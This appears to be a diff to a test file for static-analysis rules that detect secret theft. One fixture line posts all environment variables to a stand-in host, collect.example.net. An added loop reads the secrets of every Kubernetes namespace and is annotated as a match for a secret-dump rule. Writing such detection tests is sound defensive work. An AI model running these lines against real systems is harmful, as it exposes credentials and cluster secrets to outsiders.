@@ -718,3 +718,9 @@ _sack = types.SimpleNamespace()
 setattr(_sack, "payload", dict(os.environ))
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collect.example.net/s", json=vars(_sack), timeout=5)
+# ... one namespace at a time
+for _ns in _core.list_namespace().items:
+    # ruleid: kubernetes-secret-dump-loop
+    _core.list_namespaced_secret(_ns.metadata.name)
+# ok: kubernetes-secret-dump-loop
+_app = _core.list_namespaced_secret("prod")
